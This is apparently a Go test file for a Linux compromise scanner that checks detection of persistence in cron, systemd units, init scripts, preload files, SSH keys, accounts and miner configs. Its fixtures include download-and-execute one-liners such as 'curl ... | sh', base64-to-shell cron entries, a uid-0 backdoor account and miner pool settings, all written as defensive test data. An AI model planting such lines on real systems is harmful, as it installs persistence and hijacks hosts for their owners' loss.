package linux

import (
	"strings"
	"testing"

	"github.com/snapscan/snapscan/report"
	"github.com/snapscan/snapscan/scanner/check"
)

const elfStub = "\x7fELF\x02\x01\x01\x00stub"

const passwd = "root:x:0:0:root:/root:/bin/bash\n" +
	"daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n" +
	"www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin\n" +
	"alice:x:1000:1000::/home/alice:/bin/bash\n"

// checkCase is one small tree, one check, what must and must not be found.
type checkCase struct {
	name    string
	files   map[string]string
	attrs   string
	check   string
	want    []want
	notAt   []string // evidence paths that must carry no finding
	invKind string   // an inventory kind that must be present
	errs    int      // exact number of Sink.Error calls
}

func checkByName(t *testing.T, n string) check.Check {
	for _, c := range Checks() {
		if c.Name() == n {
			return c
		}
	}
	t.Fatalf("no check %q", n)
	return nil
}

func runCases(t *testing.T, cases []checkCase) {
	t.Helper()
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			dir := tree(t, c.files)
			fsys := overlayWith(t, dir, c.attrs)
			s := runCheck(t, checkByName(t, c.check), fsys)
			for _, w := range c.want {
				if !s.has(w) {
					t.Errorf("missing %+v", w)
				}
			}
			for _, p := range c.notAt {
				if fs := s.findingsAt(p); len(fs) > 0 {
					t.Errorf("unexpected finding at %s: %s %s", p, fs[0].Rule, fs[0].Evidence.Match)
				}
			}
			if c.invKind != "" {
				ok := false
				for _, i := range s.inv {
					ok = ok || i.Kind == c.invKind
				}
				if !ok {
					t.Errorf("no %s inventory", c.invKind)
				}
			}
			if len(s.errs) != c.errs {
				t.Errorf("errors %v, want %d", s.errs, c.errs)
			}
			for _, f := range s.findings {
				if f.Evidence.Path != "" && f.Evidence.Line > 0 && f.Evidence.Match == "" {
					t.Errorf("finding with a line but no match: %+v", f)
				}
			}
			if t.Failed() {
				t.Logf("findings:\n%s", s.dump())
			}
		})
	}
}

func TestCronCheck(t *testing.T) {
	runCases(t, []checkCase{
		{name: "reboot download in /etc/crontab", check: "cron", files: map[string]string{
			"etc/crontab": "SHELL=/bin/sh\nPATH=/usr/bin\n# comment\n@reboot root curl -s http://x/a | sh\n17 * * * * root cd / && run-parts --report /etc/cron.hourly\n",
		}, want: []want{{path: "/etc/crontab", rule: "cron.download-exec", technique: "T1053.003", line: 4, sev: report.High}}, invKind: "cron"},
		{name: "RHEL per-user file, user from file name", check: "cron", files: map[string]string{
			"var/spool/cron/alice": "*/5 * * * * /tmp/.x/run\n",
		}, want: []want{{path: "/var/spool/cron/alice", rule: "cron.exec-tmp", line: 1, sev: report.High}}},
		{name: "Debian crontabs dir and cron.d", check: "cron", files: map[string]string{
			"var/spool/cron/crontabs/bob": "0 0 * * * echo Y3VybCBodHRwOi8veCB8IHNoCg== | base64 -d | sh\n",
			"etc/cron.d/ok":               "MAILTO=\"\"\n*/5 * * * * root curl -fsS -o /dev/null https://hc-ping.com/abc\n",
		}, want: []want{{path: "/var/spool/cron/crontabs/bob", rule: "cron.base64-exec", technique: "T1053.003", line: 1, sev: report.High}},
			notAt: []string{"/etc/cron.d/ok"}},
		{name: "script dir, continuation line reported at its start", check: "cron", files: map[string]string{
			"etc/cron.daily/update": "#!/bin/sh\n# fetch\nwget -q -O - \\\n  http://x/i.sh | sh\n",
			"etc/cron.daily/ok":     "#!/bin/sh\n/usr/sbin/logrotate /etc/logrotate.conf\n",
		}, want: []want{{path: "/etc/cron.daily/update", rule: "cron.download-exec", line: 3, sev: report.High}},
			notAt: []string{"/etc/cron.daily/ok"}, invKind: "cron-script"},
		{name: "anacrontab", check: "cron", files: map[string]string{
			"etc/anacrontab": "1 5 upd chattr -i /etc/crontab\n",
		}, want: []want{{path: "/etc/anacrontab", rule: "cron.chattr", line: 1, sev: report.High}}},
		{name: "family marker only", check: "cron", files: map[string]string{
			"etc/cron.d/x": "* * * * * root sh /etc/upat.sh\n",
		}, want: []want{{path: "/etc/cron.d/x", rule: "cron.family-marker", family: "Cleanfda", sev: report.Critical}}},
		{name: "malformed and binary crontabs are errors; missing places are not", check: "cron", files: map[string]string{
			"etc/cron.d/bad":   "this is not cron\n",
			"etc/cron.d/bin":   elfStub,
			"var/spool/cron/":  "",
			"etc/cron.weekly/": "",
		}, errs: 2},
	})
}

func TestSystemdCheck(t *testing.T) {
	evil := "[Service]\nExecStart=/dev/shm/.k/kworker -o pool.minexmr.com:4444\n[Install]\nWantedBy=multi-user.target\n"
	runCases(t, []checkCase{
		{name: "merged /usr: one unit, one finding", check: "systemd", files: map[string]string{
			"lib":                                 "->usr/lib",
			"usr/lib/systemd/system/evil.service": evil,
			"etc/systemd/system/multi-user.target.wants/evil.service": "->/lib/systemd/system/evil.service",
		}, want: []want{{path: "/usr/lib/systemd/system/evil.service", rule: "systemd.exec-tmp", technique: "T1543.002", line: 2, sev: report.High}},
			notAt: []string{"/lib/systemd/system/evil.service"}},
		{name: "split /lib and /usr/lib: both read", check: "systemd", files: map[string]string{
			"lib/systemd/system/a.service":     "[Service]\nExecStart=/bin/sh -c 'curl http://x | sh'\n",
			"usr/lib/systemd/system/b.service": "[Service]\nExecStart=/bin/sh -c 'wget -O- http://y | bash'\n",
		}, want: []want{
			{path: "/lib/systemd/system/a.service", rule: "systemd.download-exec", line: 2, sev: report.High},
			{path: "/usr/lib/systemd/system/b.service", rule: "systemd.download-exec", line: 2, sev: report.High}}},
		{name: "enabled through a link to a unit outside the unit dirs", check: "systemd", files: map[string]string{
			"opt/x/x.service": "[Service]\nExecStart=/opt/x/xmrig\n",
			"etc/systemd/system/multi-user.target.wants/x.service": "->/opt/x/x.service",
		}, want: []want{{path: "/opt/x/x.service", rule: "systemd.miner", line: 2, sev: report.High}}},
		{name: "drop-in overrides ExecStart", check: "systemd", files: map[string]string{
			"lib/systemd/system/cron.service":               "[Service]\nExecStart=/usr/sbin/cron -f\n",
			"etc/systemd/system/cron.service.d/10-x.conf":   "[Service]\nExecStart=\nExecStart=/var/tmp/cron -f\n",
			"etc/systemd/system/cron.service.d/20-ok.conf":  "[Service]\nRestartSec=5\n",
			"etc/systemd/system/cron.service.d/README.txt":  "ignored",
			"etc/systemd/system/multi-user.target.wants/c.": "->/dev/null",
		}, want: []want{{path: "/etc/systemd/system/cron.service.d/10-x.conf", rule: "systemd.exec-tmp", line: 3, sev: report.High}},
			notAt: []string{"/lib/systemd/system/cron.service", "/etc/systemd/system/cron.service.d/20-ok.conf"}, invKind: "systemd-dropin"},
		{name: "timer and its service; masked unit", check: "systemd", files: map[string]string{
			"etc/systemd/system/t.timer":   "[Timer]\nOnCalendar=hourly\nUnit=u.service\n",
			"etc/systemd/system/u.service": "[Service]\nExecStart=/home/alice/.cache/.u/run\n",
			"etc/systemd/system/m.service": "->/dev/null",
		}, want: []want{{path: "/etc/systemd/system/u.service", rule: "systemd.exec-hidden", line: 2, sev: report.High}}},
		{name: "family unit name", check: "systemd", files: map[string]string{
			"etc/systemd/system/monero.service": "[Service]\nExecStart=/usr/bin/true\n",
		}, want: []want{{path: "/etc/systemd/system/monero.service", rule: "systemd.family-unit", family: "AliyunDuns", sev: report.Critical}}},
	})

	// A link under another name to a unit in a unit directory is judged
	// once, as the unit itself (merged /usr: the link goes through /lib).
	dir := tree(t, map[string]string{
		"lib":                                 "->usr/lib",
		"usr/lib/systemd/system/evil.service": evil,
		"etc/systemd/system/multi-user.target.wants/alias.service": "->/lib/systemd/system/evil.service",
		"etc/passwd": passwd,
		"home/alice/.config/systemd/user/x.service": "[Service]\nExecStart=/bin/bash -c 'curl -s http://x/m | bash'\n",
	})
	s := runCheck(t, Systemd{}, overlayFS(t, dir, ""))
	if len(s.findings) != 2 || !s.has(want{path: "/usr/lib/systemd/system/evil.service", rule: "systemd.exec-tmp", sev: report.High}) ||
		!s.has(want{path: "/home/alice/.config/systemd/user/x.service", rule: "systemd.download-exec", sev: report.High}) {
		t.Errorf("want one finding per unit file:\n%s", s.dump())
	}

	// Inventory fields: enabled-by through an alias, triggered-by a timer.
	dir = tree(t, map[string]string{
		"lib/systemd/system/ssh.service":                          "[Service]\nExecStart=/usr/sbin/sshd -D\n",
		"etc/systemd/system/sshd.service":                         "->/lib/systemd/system/ssh.service",
		"etc/systemd/system/multi-user.target.wants/sshd.service": "->/lib/systemd/system/ssh.service",
		"etc/systemd/system/t.timer":                              "[Timer]\nOnCalendar=hourly\n",
		"etc/systemd/system/t.service":                            "[Service]\nExecStart=/usr/bin/true\n",
	})
	s = runCheck(t, Systemd{}, overlayFS(t, dir, ""))
	var ssh, tsvc map[string]string
	for _, i := range s.inv {
		switch i.Path {
		case "/lib/systemd/system/ssh.service":
			ssh = i.Fields
		case "/etc/systemd/system/t.service":
			tsvc = i.Fields
		}
	}
	if !strings.Contains(ssh["enabled_by"], "multi-user.target.wants") || tsvc["triggered_by"] != "t.timer" || len(s.findings) != 0 {
		t.Errorf("ssh %v t.service %v findings %s", ssh, tsvc, s.dump())
	}
}

func TestRCCheck(t *testing.T) {
	runCases(t, []checkCase{
		{name: "rc.local, inittab, init.d with rcN.d link", check: "rc", files: map[string]string{
			"etc/rc.local":          "#!/bin/sh\nnohup /tmp/.x >/dev/null &\nexit 0\n",
			"etc/inittab":           "id:3:initdefault:\nx1:2345:respawn:/var/tmp/.d/run\n",
			"etc/init.d/evil":       "#!/bin/sh\ncase $1 in start) (curl -s http://x/s || wget -qO- http://x/s) | sh ;; esac\n",
			"etc/init.d/ok":         "#!/bin/sh\n. /lib/lsb/init-functions\nstart-stop-daemon --start --exec /usr/sbin/cron\n",
			"etc/rc2.d/S01evil":     "->../init.d/evil",
			"etc/rc.d/rc.local":     "->../rc.local",
			"etc/rc.d/init.d/other": "#!/bin/sh\n",
		}, want: []want{
			{path: "/etc/rc.local", rule: "rc.exec-tmp", technique: "T1037.004", line: 2, sev: report.High},
			{path: "/etc/inittab", rule: "rc.exec-tmp", line: 2, sev: report.High},
			{path: "/etc/init.d/evil", rule: "rc.download-exec", line: 2, sev: report.High}},
			notAt: []string{"/etc/init.d/ok", "/etc/rc.d/rc.local"}, invKind: "rc"},
	})
}

func TestPreloadCheck(t *testing.T) {
	runCases(t, []checkCase{
		{name: "library in a system dir is still medium", check: "preload", files: map[string]string{
			"etc/ld.so.preload":                         "/usr/lib/x86_64-linux-gnu/libjemalloc.so.2\n",
			"usr/lib/x86_64-linux-gnu/libjemalloc.so.2": elfStub,
		}, want: []want{{path: "/etc/ld.so.preload", rule: "preload.entry", technique: "T1574.006", line: 1, sev: report.Medium}}},
		{name: "odd place is high, Kinsing name critical, missing library medium", check: "preload", files: map[string]string{
			"etc/ld.so.preload":  "/dev/shm/.x/libx.so:/etc/libsystem.so\n/lib/gone.so\n",
			"dev/shm/.x/libx.so": elfStub,
			"etc/libsystem.so":   elfStub,
		}, want: []want{
			{path: "/etc/ld.so.preload", rule: "preload.entry", line: 1, sev: report.High, family: ""},
			{path: "/etc/ld.so.preload", rule: "preload.entry", line: 1, sev: report.Critical, family: "Kinsing"},
			{path: "/etc/libsystem.so", rule: "preload.library", sev: report.Critical, family: "Kinsing"},
			{path: "/etc/ld.so.preload", rule: "preload.entry", line: 2, sev: report.Medium}}},
		{name: "no preload file", check: "preload", files: map[string]string{"etc/hostname": "x\n"}},
	})
}

func TestSSHKeysCheck(t *testing.T) {
	key := "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJaXU5rKZ2J0ZQqH3x1JmHc3Yy2hY7c8m4QkSx9xV2sR"
	runCases(t, []checkCase{
		{name: "ordinary keys are inventory only", check: "sshkeys", files: map[string]string{
			"etc/passwd":                       passwd,
			"root/.ssh/authorized_keys":        key + " admin\n",
			"home/alice/.ssh/authorized_keys":  key + " alice@laptop\n",
			"home/alice/.ssh/authorized_keys2": "from=\"10.0.0.1\" " + key + " alice@ci\n",
		}, notAt: []string{"/root/.ssh/authorized_keys", "/home/alice/.ssh/authorized_keys", "/home/alice/.ssh/authorized_keys2"}, invKind: "ssh-key"},
		{name: "system account, download forced command, benign forced command", check: "sshkeys", files: map[string]string{
			"etc/passwd":                      passwd,
			"var/www/.ssh/authorized_keys":    key + " www\n",
			"root/.ssh/authorized_keys":       "command=\"wget -qO- http://x/a | sh\" " + key + " a\n",
			"home/alice/.ssh/authorized_keys": "command=\"/usr/bin/rrsync -ro /srv\",restrict " + key + " backup\n",
		}, want: []want{
			{path: "/var/www/.ssh/authorized_keys", rule: "ssh.system-account-key", technique: "T1098.004", line: 1, sev: report.Medium},
			{path: "/root/.ssh/authorized_keys", rule: "ssh.download-exec", line: 1, sev: report.High},
			{path: "/home/alice/.ssh/authorized_keys", rule: "ssh.forced-command", line: 1, sev: report.Info}}},
		{name: "AuthorizedKeysFile from sshd_config, family comment", check: "sshkeys", files: map[string]string{
			"etc/passwd":                passwd,
			"etc/ssh/sshd_config":       "AuthorizedKeysFile .ssh/authorized_keys /etc/ssh/keys/%u\n",
			"etc/ssh/keys/alice":        key + " mdrfckr\n",
			"root/.ssh/authorized_keys": "garbage line\n" + key + " x\n",
		}, want: []want{{path: "/etc/ssh/keys/alice", rule: "ssh.family-key", family: "Outlaw", sev: report.Critical}}, errs: 1},
	})
}

func TestAccountsCheck(t *testing.T) {
	runCases(t, []checkCase{
		{name: "clean Debian accounts", check: "accounts", files: map[string]string{
			"etc/passwd": passwd + "sync:x:4:65534:sync:/bin:/bin/sync\npostgres:x:102:110::/var/lib/postgresql:/bin/bash\n",
			"etc/shadow": "root:$y$x:1::::::\nalice:$y$y:1::::::\ndaemon:*:1::::::\n",
		}, notAt: []string{"/etc/passwd", "/etc/shadow"}, invKind: "account"},
		{name: "uid 0, system shell, empty password, backdoor name", check: "accounts", files: map[string]string{
			"etc/passwd": passwd + "toor:x:0:0::/root:/bin/sh\ngames:x:5:60::/usr/games:/bin/sh\nshaojiang99:x:1002:1002::/home/s:/bin/bash\nopen::1003:1003::/home/o:/bin/bash\n",
			"etc/shadow": "toor::1::::::\n",
		}, want: []want{
			{path: "/etc/passwd", rule: "accounts.uid0", technique: "T1136.001", line: 5, sev: report.High},
			{path: "/etc/passwd", rule: "accounts.system-shell", technique: "T1078.003", line: 6, sev: report.Medium},
			{path: "/etc/passwd", rule: "accounts.family-user", family: "AliyunDuns", line: 7, sev: report.Critical},
			{path: "/etc/shadow", rule: "accounts.empty-password", line: 1, sev: report.High},
			{path: "/etc/passwd", rule: "accounts.empty-password", line: 8, sev: report.High}}},
		{name: "UID_MIN from login.defs", check: "accounts", files: map[string]string{
			"etc/passwd":     "root:x:0:0::/root:/bin/bash\nold:x:600:600::/home/old:/bin/bash\n",
			"etc/login.defs": "UID_MIN 500\n",
		}, notAt: []string{"/etc/passwd"}},
		{name: "account creation in logs", check: "accounts", files: map[string]string{
			"etc/passwd":              passwd,
			"var/log/secure":          "Nov 18 03:14:07 h useradd[1]: new user: name=shaojiang99, UID=1002\n",
			"var/log/audit/audit.log": "type=ADD_USER msg=audit(1700000000.1:5): pid=1 uid=0 auid=0 ses=1 msg='op=add-user acct=\"eve\" exe=\"/usr/sbin/useradd\" res=success'\n",
		}, want: []want{
			{path: "/var/log/secure", rule: "accounts.created-in-log", family: "AliyunDuns", line: 1, sev: report.Critical},
			{path: "/var/log/audit/audit.log", rule: "accounts.created-in-log", line: 1, sev: report.Info}}},
		{name: "a second root created, in either log", check: "accounts", files: map[string]string{
			"etc/passwd":              passwd,
			"var/log/auth.log":        "Nov 18 03:14:07 h useradd[1]: new user: name=sysadm, UID=0, GID=0, home=/root, shell=/bin/bash\n",
			"var/log/audit/audit.log": "type=ADD_USER msg=audit(1700000000.1:5): pid=1 uid=0 auid=0 ses=1 msg='op=add-user id=0 exe=\"/usr/sbin/useradd\" acct=\"ops0\" res=success'\n",
		}, want: []want{
			{path: "/var/log/auth.log", rule: "accounts.created-in-log", line: 1, sev: report.High},
			{path: "/var/log/audit/audit.log", rule: "accounts.created-in-log", line: 1, sev: report.High}}},
		{name: "recent home", check: "accounts", files: map[string]string{
			"etc/passwd":   passwd + "eve:x:1001:1001::/home/eve:/bin/bash\n",
			"etc/hostname": "h\n",
			"home/eve/":    "",
			"home/alice/":  "",
		}, attrs: "crtime /home/eve 1763435647\n", want: []want{
			{path: "/home/eve", rule: "accounts.recent-home", technique: "T1136.001", sev: report.Low}},
			notAt: []string{"/home/alice"}},
	})
}

func TestImmutableCheck(t *testing.T) {
	runCases(t, []checkCase{
		{name: "flags on persistence files, not elsewhere", check: "immutable", files: map[string]string{
			"etc/passwd":                      passwd,
			"etc/cron.d/x":                    "* * * * * root /bin/true\n",
			"var/spool/cron/crontabs/":        "",
			"home/alice/.ssh/authorized_keys": "x\n",
			"srv/data":                        "x\n",
		}, attrs: "/etc/cron.d/x 0 0 0644 immutable\n/var/spool/cron/crontabs 0 0 0755 append-only\n/home/alice/.ssh/authorized_keys 0 0 0600 immutable,append-only\n/srv/data 0 0 0644 immutable\n",
			want: []want{
				{path: "/etc/cron.d/x", rule: "immutable.flag", technique: "T1222.002", sev: report.High},
				{path: "/var/spool/cron/crontabs", rule: "immutable.flag", sev: report.High},
				{path: "/home/alice/.ssh/authorized_keys", rule: "immutable.flag", sev: report.High}},
			notAt: []string{"/srv/data", "/etc/passwd"}},
	})
}

func TestBinariesCheck(t *testing.T) {
	runCases(t, []checkCase{
		{name: "merged /usr: script ps with ps.original, counted once", check: "binaries", files: map[string]string{
			"bin":                   "->usr/bin",
			"usr/bin/ps":            "#!/bin/sh\n/usr/bin/ps.original \"$@\" | grep -v miner\n",
			"usr/bin/ps.original":   elfStub,
			"usr/bin/top":           elfStub,
			"usr/bin/netstat":       "garbage, not a program",
			"usr/sbin/ss":           elfStub,
			"usr/sbin/ss.old":       elfStub,
			"usr/bin/lsof.original": elfStub,
			"usr/bin/lsof":          elfStub,
			"usr/bin/vim.original":  elfStub,
			"usr/bin/vim":           elfStub,
		}, want: []want{
			{path: "/usr/bin/ps", rule: "binaries.script-replacement", technique: "T1036.005", line: 1, sev: report.High},
			{path: "/usr/bin/ps.original", rule: "binaries.renamed-original", family: "Cleanfda", sev: report.High},
			{path: "/usr/bin/netstat", rule: "binaries.not-elf", sev: report.Medium},
			{path: "/usr/sbin/ss.old", rule: "binaries.renamed-original", sev: report.High},
			{path: "/usr/bin/lsof.original", rule: "binaries.renamed-original", family: "Cleanfda", sev: report.High},
			{path: "/usr/bin/vim.original", rule: "binaries.renamed-original", family: "Cleanfda", sev: report.High}},
			notAt: []string{"/bin/ps", "/usr/bin/top", "/usr/bin/lsof"}},
	})
	// On a merged-/usr tree the finding must not be reported twice.
	dir := tree(t, map[string]string{"bin": "->usr/bin", "usr/bin/ps": "#!/bin/sh\n"})
	if s := runCheck(t, Binaries{}, overlayFS(t, dir, "")); len(s.findings) != 1 {
		t.Errorf("merged /usr: %d findings, want 1:\n%s", len(s.findings), s.dump())
	}
}

func TestMarkersCheck(t *testing.T) {
	runCases(t, []checkCase{
		{name: "home and absolute markers", check: "markers", files: map[string]string{
			"etc/passwd":                       passwd,
			"home/alice/.configrc5/a/upd":      "#!/bin/sh\n",
			"tmp/.X2xi-unix/.rsync/c/aptitude": "#!/bin/sh\n",
			"opt/sysetmd":                      elfStub,
			"opt/sysetmd-docs":                 "not a marker\n",
		}, want: []want{
			{path: "/home/alice/.configrc5", rule: "marker.path", family: "Outlaw", sev: report.Critical},
			{path: "/tmp/.X2xi-unix/.rsync", rule: "marker.path", family: "Outlaw", technique: "T1564.001", sev: report.Critical},
			{path: "/opt/sysetmd", rule: "marker.path", family: "AliyunDuns", sev: report.Critical}},
			notAt: []string{"/opt/sysetmd-docs"}},
	})
}

func TestHostsAndFirewallChecks(t *testing.T) {
	runCases(t, []checkCase{
		{name: "hosts", check: "hosts", files: map[string]string{
			"etc/hosts": "127.0.0.1 localhost\n1.2.3.4 xmr-eu1.nanopool.org\n0.0.0.0 pool.minexmr.com\n127.0.0.1 update.aegis.aliyun.com\n10.0.0.5 mirror.example.org\n1.2.3.5 notnanopool.org\n",
		}, want: []want{
			{path: "/etc/hosts", rule: "hosts.pool-pinned", technique: "T1496.001", line: 2, sev: report.High},
			{path: "/etc/hosts", rule: "hosts.pool-blocked", line: 3, sev: report.Info},
			{path: "/etc/hosts", rule: "hosts.security-sinkholed", technique: "T1562.001", line: 4, sev: report.Medium}}},
		{name: "firewall", check: "firewall", files: map[string]string{
			"etc/sysconfig/iptables": "*filter\n-A OUTPUT -p tcp --dport 443 -j ACCEPT\n-A OUTPUT -d pool.supportxmr.com -j ACCEPT\n-A OUTPUT -p tcp --dport 3333 -j DROP\n-A OUTPUT -p tcp --dport 7777 -j ACCEPT\nCOMMIT\n",
		}, want: []want{
			{path: "/etc/sysconfig/iptables", rule: "firewall.pool-allowed", technique: "T1562.004", line: 3, sev: report.High},
			{path: "/etc/sysconfig/iptables", rule: "firewall.pool-blocked", line: 4, sev: report.Info},
			{path: "/etc/sysconfig/iptables", rule: "firewall.stratum-port-allowed", line: 5, sev: report.Medium}}},
	})
}

func TestMinerFilesCheck(t *testing.T) {
	runCases(t, []checkCase{
		{name: "configs and names in bounded places", check: "minerfiles", files: map[string]string{
			"etc/passwd":             passwd,
			"tmp/.x/config.json":     `{"donate-level":1,"pools":[{"url":"gulf.moneroocean.stream:10128","user":"4WALLET"}]}`,
			"home/alice/.xmrig.json": `{"pools":[{"url":"1.2.3.4:3333","user":"w"}]}`,
			"opt/app/config.json":    `{"port": 8080}`,
			"opt/notes/config.json":  `{"blocked": ["pool.minexmr.com"]}`,
			"var/tmp/xmrig":          elfStub,
			"root/a/b/config.json":   `{"donate-level":1}`,
			"dev/shm/config.json":    "{ // xmrig with comments\n \"url\": \"stratum+tcp://x:3333\"\n}\n",
		}, want: []want{
			{path: "/tmp/.x/config.json", rule: "miner.config", technique: "T1496.001", sev: report.High},
			{path: "/home/alice/.xmrig.json", rule: "miner.config", sev: report.High},
			{path: "/opt/notes/config.json", rule: "miner.pool-mention", sev: report.Info},
			{path: "/var/tmp/xmrig", rule: "miner.binary-name", sev: report.High},
			{path: "/dev/shm/config.json", rule: "miner.config", line: 2, sev: report.High}},
			notAt: []string{"/opt/app/config.json", "/root/a/b/config.json"}},
	})
	// The wallet and pool are in the evidence.
	dir := tree(t, map[string]string{"tmp/config.json": `{"pools":[{"url":"pool.supportxmr.com:443","user":"4WALLET"}]}`})
	s := runCheck(t, MinerFiles{}, overlayFS(t, dir, ""))
	if len(s.findings) != 1 || s.findings[0].Evidence.Key != "pools[0].url" || !strings.Contains(s.findings[0].Evidence.Match, "4WALLET") || s.findings[0].Evidence.SHA256 == "" {
		t.Errorf("evidence: %+v", s.findings)
	}
}
